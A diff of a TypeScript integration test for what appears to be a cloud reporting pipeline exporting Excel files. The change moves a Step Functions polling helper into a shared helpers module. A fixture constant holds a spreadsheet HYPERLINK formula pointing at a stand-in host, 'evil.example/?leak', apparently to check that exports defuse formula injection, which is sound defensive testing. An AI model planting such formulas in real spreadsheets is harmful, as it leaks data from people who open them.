@@ -6,35 +6,28 @@
 import { readdir, readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { GetObjectCommand } from '@aws-sdk/client-s3';
-import {
-  DescribeExecutionCommand,
-  GetExecutionHistoryCommand,
-  StartExecutionCommand,
-} from '@aws-sdk/client-sfn';
+import { GetExecutionHistoryCommand, StartExecutionCommand } from '@aws-sdk/client-sfn';
 import { GetCommand, PutCommand, QueryCommand } from '@aws-sdk/lib-dynamodb';
 import ExcelJS from 'exceljs';
 import { simpleParser } from 'mailparser';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { withUsccCheck } from '../../schemas/codes/uscc.ts';
-import { api, bucketName, clients, cloud, eventually, tableName, token } from './helpers.ts';
+import {
+  api,
+  bucketName,
+  clients,
+  cloud,
+  eventually,
+  tableName,
+  token,
+  waitForExecution,
+} from './helpers.ts';
 
 const quarter = '2019Q3';
 const province = '620000';
 const hyperlink = '=HYPERLINK("http://evil.example/?leak","点此")';
 const evil = withUsccCheck('12620000MB0000001');
 const plain = withUsccCheck('12620000MB0000002');
-
-async function waitForExecution(executionArn: string) {
-  const { sfn } = clients();
-  return eventually(
-    async () => {
-      const e = await sfn.send(new DescribeExecutionCommand({ executionArn }));
-      return e.status === 'RUNNING' ? undefined : e;
-    },
-    150_000,
-    `execution ${executionArn}`,
-  );
-}
 
 async function statesEntered(executionArn: string) {
   const { sfn } = clients();
